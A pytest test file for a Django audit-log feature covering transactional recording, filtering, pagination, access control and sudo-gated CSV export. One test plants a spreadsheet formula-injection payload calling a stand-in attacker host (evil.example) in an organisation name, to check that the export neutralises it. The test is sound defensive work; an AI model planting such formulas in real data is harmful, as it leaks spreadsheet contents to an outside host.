from __future__ import annotations

import pytest
from django.db import transaction
from django.urls import reverse

from saferwork.audit import services as audit
from saferwork.audit.models import AuditEntry

pytestmark = pytest.mark.django_db


def test_record_names_its_target(organisation):

    with transaction.atomic():
        entry = audit.record(action="saferwork.test.done", organisation=organisation, target=organisation)
    assert entry.target_type == "organisations.organisation"
    assert entry.target_label == "Home Union"


@pytest.mark.django_db(transaction=True)
def test_record_outside_transaction_raises(organisation):
    with pytest.raises(RuntimeError):
        audit.record(action="saferwork.test.done", organisation=organisation)


def test_rolled_back_change_leaves_no_audit_entry(organisation):
    with pytest.raises(ValueError), transaction.atomic():
        audit.record(action="saferwork.test.rolled_back", organisation=organisation)
        raise ValueError("change failed")
    assert not AuditEntry.objects.filter(action="saferwork.test.rolled_back").exists()


def test_programme_admin_filters_the_audit_log(verified_client, programme_admin, organisation, other_organisation):
    with transaction.atomic():
        audit.record(action="saferwork.case.opened", organisation=organisation)
        audit.record(action="saferwork.session.moved", organisation=other_organisation)
    client = verified_client(programme_admin)
    everything = client.get(reverse("audit:list")).content.decode()
    assert "saferwork.case.opened" in everything and "saferwork.session.moved" in everything
    filtered = client.get(reverse("audit:list"), {"action": "case", "organisation": organisation.pk}).content.decode()
    assert "saferwork.case.opened" in filtered
    assert "saferwork.session.moved" not in filtered


def test_audit_log_rejects_backwards_dates(verified_client, programme_admin):
    response = verified_client(programme_admin).get(
        reverse("audit:list"), {"since": "2026-02-01", "until": "2026-01-01"}
    )
    assert "The end date must be the same as or after the start date" in response.content.decode()


def test_audit_list_query_count_does_not_grow(
    verified_client, programme_admin, organisation, django_assert_max_num_queries
):
    client = verified_client(programme_admin)
    with transaction.atomic():
        for n in range(60):
            audit.record(action=f"saferwork.test.{n}", actor=programme_admin, organisation=organisation)
    with django_assert_max_num_queries(12):
        assert client.get(reverse("audit:list")).status_code == 200


def test_audit_log_pages_through_without_counting_every_entry(
    verified_client, programme_admin, organisation, django_assert_max_num_queries
):
    with transaction.atomic():
        for n in range(55):
            audit.record(action=f"saferwork.test.n{n:02d}", organisation=organisation)
    client = verified_client(programme_admin)
    first = client.get(reverse("audit:list")).content.decode()
    assert "saferwork.test.n54" in first and "saferwork.test.n04" not in first
    assert 'rel="next"' in first and 'rel="prev"' not in first
    assert "Page 1" in first
    with django_assert_max_num_queries(12) as captured:
        second = client.get(reverse("audit:list"), {"page": "2"}).content.decode()
    assert not any("COUNT(" in q["sql"].upper() for q in captured.captured_queries)
    assert "saferwork.test.n04" in second and "saferwork.test.n00" in second
    assert 'rel="prev"' in second and 'rel="next"' not in second
    # An old link past the end shows the first page, not an empty one.
    assert "saferwork.test.n54" in client.get(reverse("audit:list"), {"page": "99"}).content.decode()


def test_outsider_cannot_read_the_audit_log(verified_client, outsider):
    assert verified_client(outsider).get(reverse("audit:list")).status_code == 403


def test_anonymous_visitor_is_sent_to_sign_in(client, db):
    response = client.get(reverse("audit:list"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:sign_in"))


def _grant_sudo(client):
    import time

    session = client.session
    session["sudo_until"] = int(time.time()) + 600
    session.save()


def test_export_asks_for_a_fresh_code_first(verified_client, programme_admin):
    response = verified_client(programme_admin).get(reverse("audit:export"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:sudo"))


def test_export_streams_the_filtered_log_as_csv_and_is_itself_audited(
    verified_client, programme_admin, organisation, other_organisation
):
    import csv
    import io

    from django.http import StreamingHttpResponse

    with transaction.atomic():
        AuditEntry.objects.bulk_create(
            [AuditEntry(action="saferwork.case.opened", organisation=organisation) for _ in range(2500)]
            + [AuditEntry(action="saferwork.session.moved", organisation=other_organisation) for _ in range(10)]
        )
    client = verified_client(programme_admin)
    _grant_sudo(client)
    response = client.get(reverse("audit:export"), {"organisation": organisation.pk})
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:2] == ["when", "action"]
    assert len(rows) == 1 + 2500
    assert {row[3] for row in rows[1:]} == {"Home Union"}
    assert AuditEntry.objects.filter(action="saferwork.audit.exported", actor=programme_admin).exists()


def test_outsider_cannot_export_the_audit_log(verified_client, outsider):
    client = verified_client(outsider)
    _grant_sudo(client)
    assert client.get(reverse("audit:export")).status_code == 403


def test_export_makes_a_hostile_organisation_name_inert(verified_client, programme_admin, organisation):
    import csv
    import io

    # Organisation names come from public enquiries.
    organisation.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    organisation.save(update_fields=["name"])
    with transaction.atomic():
        AuditEntry.objects.create(action="saferwork.case.opened", organisation=organisation)
    client = verified_client(programme_admin)
    _grant_sudo(client)
    response = client.get(reverse("audit:export"), {"organisation": organisation.pk})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][3] == "'" + organisation.name


def test_action_contains_matches_any_case_newest_first_with_flat_queries(
    verified_client, programme_admin, organisation, django_assert_max_num_queries
):
    with transaction.atomic():
        for n in range(30):
            audit.record(action=f"saferwork.bench.small-export.{n % 2}", organisation=organisation)
            audit.record(action="saferwork.case.opened", organisation=organisation)
    client = verified_client(programme_admin)
    with django_assert_max_num_queries(12):
        response = client.get(reverse("audit:list"), {"action": "EXPORT.1"})
    one = response.content.decode()
    newest = AuditEntry.objects.filter(action="saferwork.bench.small-export.1").order_by("-created_at", "-id")
    assert [e.pk for e in response.context["page"].object_list] == [e.pk for e in newest]
    assert "saferwork.bench.small-export.1" in one
    assert "saferwork.bench.small-export.0" not in one and "saferwork.case.opened" not in one
    both = client.get(reverse("audit:list"), {"action": "Small-Export"}).content.decode()
    assert "saferwork.bench.small-export.0" in both and "saferwork.bench.small-export.1" in both
    assert "saferwork.case.opened" not in both
    none = client.get(reverse("audit:list"), {"action": "no-such-action"})
    assert none.status_code == 200 and "saferwork.case.opened" not in none.content.decode()
